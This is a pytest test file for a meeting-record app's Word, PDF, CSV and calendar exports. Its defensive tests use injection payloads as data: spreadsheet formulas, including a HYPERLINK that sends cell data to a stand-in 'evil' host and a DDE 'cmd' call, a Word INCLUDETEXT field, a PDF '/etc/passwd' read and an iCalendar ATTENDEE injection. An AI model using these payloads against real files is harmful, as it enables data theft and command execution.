"""Every file of the example meeting, opened by a reader that is not its writer, and compared with what it says."""

import csv
import json
import re
from datetime import UTC, date, datetime
from io import BytesIO, StringIO
from pathlib import Path
from shutil import which
from subprocess import run
from time import process_time
from typing import Any

import icalendar
import mammoth
import pikepdf
import pytest

from app.core.document import Bullets, Document, Section, Table
from app.core.saying import ENGLISH
from app.exports.csv_file import actions_csv, harmless
from app.exports.ics import due_dates, folded
from app.exports.markdown import markdown
from app.exports.pdf import A3, A4, MISSING, one_page, pdf
from app.exports.word import word
from tests.browser.sepsis.story import EXAMPLE, LABEL
from tests.exports import pdf_words
from tests.exports.taken import file, held, numbered, some
from tests.exports.test_exports_writers import HOSTILE, full_of

GOLDEN = Path(__file__).parent / "golden"
AT = datetime(2026, 3, 10, 10, tzinfo=UTC)


def golden(name: str, text: str) -> None:
    """The text of the file that is kept beside this one; a missing one is written, to be read and kept."""
    path = GOLDEN / name
    if not path.exists():
        path.parent.mkdir(exist_ok=True)
        path.write_text(text, "utf-8")
        pytest.fail(f"{path} was written: read it, keep it, run this again")
    assert text == path.read_text("utf-8")


# Word, read by mammoth


def paragraphs(data: bytes) -> str:
    return str(mammoth.extract_raw_text(BytesIO(data)).value)


def html(data: bytes) -> str:
    found = mammoth.convert_to_html(BytesIO(data))
    assert [m.message for m in found.messages if "Unrecognised paragraph style" not in m.message] == []
    return str(found.value)


def test_re4_word_says_the_same_as_it_did() -> None:
    golden("record.docx.txt", paragraphs(file("record.docx")))


def test_word_has_real_headings_lists_and_tables_with_heads() -> None:
    seen = html(file("record.docx"))
    count = {tag: seen.count(f"<{tag}>") + seen.count(f"<{tag} ") for tag in ("h1", "h2", "ul", "table", "thead", "th")}
    assert "Sepsis pathway big room, week 14, 10 March 2026" in seen
    assert count["table"] == count["thead"] >= 10 and count["h1"] >= 10 and count["h2"] >= 5 and count["ul"] >= 5
    assert "<th><p><strong>Owner</strong></p></th>" in seen


def test_x19_word_names_its_language_and_nobody() -> None:
    import docx

    made = docx.Document(BytesIO(file("record.docx")))
    about = made.core_properties
    assert (about.author, about.last_modified_by, about.language) == ("Big Room", "Big Room", "en-GB")
    assert about.title == held().document.title and about.comments == ""
    assert 'w:lang w:val="en-GB"' in made.styles.element.xml


def test_every_page_of_the_word_file_says_what_it_is_and_which() -> None:
    import docx

    (foot,) = docx.Document(BytesIO(file("record.docx"))).sections[0].footer.paragraphs
    assert foot.text.startswith(f"{held().document.title}\tPage ") and 'w:fldSimple w:instr="PAGE"' in foot._p.xml


def test_a_word_table_of_figures_is_as_narrow_as_they_are_and_stays_on_one_page() -> None:
    import docx

    def broad(table: Any) -> int:
        return sum(column.width.mm for column in table.columns)

    tables = {table.rows[0].cells[0].text: table for table in docx.Document(BytesIO(file("record.docx"))).tables}
    assert broad(tables["Rating"]) < 60 < 170 < broad(tables["Number"]) < 175
    kept = [row.cells[0].paragraphs[0].paragraph_format.keep_with_next for row in tables["Rating"].rows]
    assert kept == [True] * 11 + [None]


def test_x18_ten_thousand_ideas_are_a_word_file_in_five_seconds() -> None:
    rows = tuple((str(n), f"Idea number {n} of very many", "banked") for n in range(10_000))
    ideas = Table("Ideas", ("Number", "Idea", "What happened"), rows, frozenset({0}))
    before = process_time()
    data = word(Document("Much", "en-GB", (Section("Brainstorm", (ideas,), 60),)), AT)
    assert process_time() - before < 5 and len(data) < 5_000_000


def all_of(texts: list[str]) -> Document:
    """One document in which each text stands wherever a text can stand."""
    made = [full_of(text) for text in texts]
    return Document("Everything", "en-GB", tuple(section for one in made for section in one.sections))


def test_x14_x16_x17_word_keeps_what_is_typed_as_words() -> None:
    import docx

    data = word(all_of([f"{text}\x01\x0b\x1b\ufffe{{ INCLUDETEXT \\\\evil\\share }}]]>" for text in HOSTILE]), AT)
    body, seen = docx.Document(BytesIO(data)).element.body.xml, paragraphs(data)
    assert "w:fldSimple" not in body and "w:instrText" not in body and "w:hyperlink" not in body
    for text in HOSTILE:
        clean = "".join(c for c in text if c not in "\u202e\u202c\u2066\u2069")
        assert all(line in seen for line in clean.split("\n")), text
    assert seen.count("{ INCLUDETEXT") >= 10 * len(HOSTILE)


def test_x15_a_text_from_right_to_left_stands_between_isolates() -> None:
    assert "\u2068عربي\u2069" in paragraphs(word(Document("عربي", "en-GB", ()), AT))


# PDF, read by pikepdf


def tags(data: bytes) -> list[str]:
    """The structure tree, in order of reading."""
    with pikepdf.open(BytesIO(data)) as made:
        found: list[str] = []

        def walk(node: Any) -> None:
            if isinstance(node, pikepdf.Array):
                for one in node:
                    walk(one)
            elif isinstance(node, pikepdf.Dictionary):
                if "/S" in node:
                    found.append(str(node["/S"]).strip("/"))
                if "/K" in node:
                    walk(node["/K"])

        walk(made.Root.StructTreeRoot)
        return found


def about(data: bytes) -> dict[str, Any]:
    with pikepdf.open(BytesIO(data)) as made, made.open_metadata() as meta:
        return {
            "lang": str(made.Root.Lang),
            "marked": bool(made.Root.MarkInfo.Marked),
            "title": str(meta["dc:title"]),
            "ua": str(meta["pdfuaid:part"]),
            "pages": len(made.pages),
            "box": [round(float(x)) for x in made.pages[0].MediaBox][2:],
            "shown": bool(made.Root.ViewerPreferences.DisplayDocTitle),
        }


def test_the_pdf_is_tagged_and_says_that_it_is_ua1() -> None:
    found = about(file("record-full.pdf"))
    assert found["lang"] == "en-GB" and found["marked"] and found["shown"] and found["ua"] == "1"
    assert found["title"] == held().document.title
    seen = tags(file("record-full.pdf"))
    assert seen.count("Table") == sum(isinstance(b, Table) for s in held().document.sections for b in s.blocks)
    assert seen.count("H1") == 1 and seen.count("H2") >= 10 and seen.count("H3") >= 5
    assert {"TH", "TD", "THead", "TBody", "L", "LI", "P"} <= set(seen)


def test_re4_the_one_page_is_one_a4_and_one_a3() -> None:
    assert (about(file("record.pdf"))["pages"], about(file("record.pdf"))["box"]) == (1, [595, 842])
    assert (about(file("record-wall.pdf"))["pages"], about(file("record-wall.pdf"))["box"]) == (1, [842, 1191])


def test_re4_ever_so_much_still_fits_one_page_and_says_what_is_left_out() -> None:
    from functools import partial

    from app.exports.assemble import brief

    long = " ".join(["An action that goes on and on"] * 17)[:500]
    actions = Table(
        "Actions",
        ("Action", "Owner", "Due", "Status"),
        tuple((long, "Ward sister", "1 May", "open") for _ in range(20)),
    )
    much = Document(
        "Much",
        "en-GB",
        (
            Section("Decisions", (Bullets(tuple(f"{n} {long}"[:500] for n in range(15))),), 50, brief=True),
            Section("Open actions", (actions,), 90, brief=True),
            Section("Rating", (Bullets(tuple(f"{n} {long}"[:500] for n in range(15))),), 110, brief=True),
        ),
    )
    for sheet in (A4, A3):
        assert about(one_page(partial(brief, much), sheet, AT))["pages"] == 1


def test_nothing_typed_is_markup_of_the_pdf() -> None:
    evil = [*HOSTILE, '#eval("1") *b* $x$ = h \\ #image("/etc/passwd")', "中文 🙂 \x07"]
    plain = [one for one in tags(pdf(all_of(["plain"] * len(evil)), AT)) if one not in ("P", "Span")]
    data = pdf(all_of(evil), AT)
    assert about(data)["ua"] == "1"
    assert [one for one in tags(data) if one not in ("P", "Span")] == plain


def test_the_pdf_says_where_a_sign_is_missing() -> None:
    from app.exports.pdf import shown, told

    data = told(Document("中文 and é, Ł, Ω, Ж", "en-GB", (), "Draft"), ENGLISH)
    assert shown(data, ENGLISH)["title"] == "?? and é, Ł, Ω, Ж"
    assert MISSING in shown(data, ENGLISH)["status"]


def test_a_small_table_of_the_pdf_stays_on_one_page() -> None:
    (page,) = [one for one in pdf_words.words(file("record-full.pdf")).split("-- page ") if "gave each rating" in one]
    assert {str(n) for n in range(11)} <= set(page.partition("gave each rating")[2].split("Went well")[0].split())


@pytest.mark.parametrize("name", ["record.pdf", "record-full.pdf"])
def test_re4_the_pdf_says_the_same_as_it_did(name: str) -> None:
    golden(f"{name}.txt", pdf_words.words(file(name)))


def test_re4_the_wall_sheet_says_what_the_one_page_says() -> None:
    def said(name: str) -> set[str]:
        return set(re.findall(r"[A-Za-z]{4,}", pdf_words.words(file(name))))

    assert said("record-wall.pdf") == said("record.pdf") > {"Actions", "Decisions", "Owner"}


def test_the_pdf_gives_its_words_to_a_text_extractor(tmp_path: Path) -> None:
    if not which("pdftotext"):
        pytest.skip("pdftotext (Debian: poppler-utils) is not here: the words of the PDF were not read back")
    (tmp_path / "record.pdf").write_bytes(file("record-full.pdf"))
    run(["pdftotext", "-layout", "record.pdf", "record.txt"], cwd=tmp_path, check=True)
    words = re.findall(r"[A-Za-z]{4,}", (tmp_path / "record.txt").read_text("utf-8"))
    assert set(re.findall(r"[A-Za-z]{4,}", markdown(held().document))) - set(words) == set()


@pytest.mark.timeout(180)
def test_libreoffice_opens_the_word_file_and_finds_its_headings_and_tables(tmp_path: Path) -> None:
    office = which("soffice") or which("libreoffice")
    if not office:
        pytest.skip("LibreOffice (Debian: libreoffice-writer-nogui) is not here: mammoth alone read the Word file")
    (tmp_path / "record.docx").write_bytes(file("record.docx"))
    asked = [
        office,
        "--headless",
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--convert-to",
        "html:HTML",
        "record.docx",
    ]
    run(asked, cwd=tmp_path, check=True, capture_output=True)
    seen = (tmp_path / "record.html").read_text("utf-8", "replace").lower()
    assert seen.count("<table") == sum(isinstance(b, Table) for s in held().document.sections for b in s.blocks)
    assert seen.count("<h1") >= 10 and seen.count("<h2") >= 5 and seen.count("<li") >= 20
    assert 'lang="en-gb"' in seen


# Actions for Excel, read by csv


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(StringIO(data.decode("utf-8-sig"), newline="")))


def test_re4_x11_the_actions_for_excel_say_the_same_as_they_did() -> None:
    assert file("actions.csv").startswith(b"\xef\xbb\xbf")
    golden("actions.csv.txt", "\n".join(" | ".join(row) for row in rows(file("actions.csv"))) + "\n")


EVIL = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r\n =1",
    "  =1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    '=HYPERLINK("http://evil?"&A1)',
    "-3",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", EVIL)
def test_re5_x1_x2_x3_x5_x6_x8_no_cell_of_the_actions_can_be_a_formula(text: str) -> None:
    data = actions_csv([some(text=text, owner=text, helpers=text, reason=text, status="dropped")])
    head, row = rows(data)
    assert len(row) == len(head) == 7
    assert all(cell.startswith("'") for n, cell in enumerate(row) if n in (0, 1, 2, 5))


@pytest.mark.parametrize("text", ["a,=1", 'He said "go"', "line\nline", ";=1+1", "é Ł 中", "3 beds", "", "nothing\x00"])
def test_re5_x4_x7_x10_what_is_no_formula_comes_back_as_it_was(text: str) -> None:
    assert rows(actions_csv([some(text=text)]))[1][0] == text.replace("\x00", "")


def test_x9_a_cell_too_long_for_excel_says_that_it_goes_on() -> None:
    assert len(harmless("x" * 40_000)) < 32_767 and harmless("x" * 40_000).endswith("[...]")


# Due dates, read by icalendar


def events(data: bytes) -> list[Any]:
    return list(icalendar.Calendar.from_ical(data).walk("VEVENT"))


def test_the_due_dates_are_whole_days_of_the_open_actions() -> None:
    found = events(file("actions.ics"))
    open_ = [one for one in EXAMPLE["actions"] if one["status"] == "open"]
    assert {(str(e["SUMMARY"]), e.decoded("DTSTART")) for e in found} == {
        (f"Due: {one['text']} ({LABEL[one['owner']]})", date.fromisoformat(one["due"])) for one in open_
    }
    assert len({str(e["UID"]) for e in found}) == len(found) == len(open_)
    lines = [f"{e.decoded('DTSTART')} {e['SUMMARY']} {e['TRANSP']}" for e in found]
    golden("actions.ics.txt", "\n".join(lines) + "\n")


def test_x27_nothing_typed_begins_a_line_of_the_calendar() -> None:
    evil = "a\r\nATTENDEE:mailto:x@evil.example\nb; c, d\\"
    (event,) = events(due_dates([some(text=evil, owner=None)], evil, "https://room.example", AT))
    assert "ATTENDEE" not in event
    assert str(event["SUMMARY"]) == "Due: a\nATTENDEE:mailto:x@evil.example\nb; c, d\\"


def test_x28_a_line_is_folded_at_75_octets_and_never_inside_a_letter() -> None:
    line = "SUMMARY:" + "é🙂" * 60
    pieces = folded(line).split("\r\n")
    assert all(len(piece.encode()) <= 75 for piece in pieces)
    assert "".join(piece[1:] if n else piece for n, piece in enumerate(pieces)) == line


def test_done_actions_and_those_without_a_day_are_not_in_the_calendar() -> None:
    actions = [some(due=None), some(status="done"), some(status="dropped"), some(id="a9")]
    assert [str(e["UID"]) for e in events(due_dates(actions, "Team", "", AT))] == ["action-a9@bigroom"]


# Text and data


def test_re4_the_text_says_the_same_as_it_did() -> None:
    golden("record.md", file("record.md").decode())


def test_the_data_says_the_same_as_it_did() -> None:
    golden("record.json", numbered(file("record.json").decode()))


def test_re3_every_file_says_that_it_is_a_draft() -> None:
    said = "Draft, not approved yet"
    assert said in paragraphs(file("record.docx")) and said in file("record.md").decode()
    assert json.loads(file("record.json"))["draft"] is True
    assert held().document.status == said


def test_markdown_and_word_tell_the_same_story() -> None:
    words = set(re.findall(r"[A-Za-z]{4,}", markdown(held().document)))
    assert words <= set(re.findall(r"[A-Za-z]{4,}", paragraphs(file("record.docx"))))
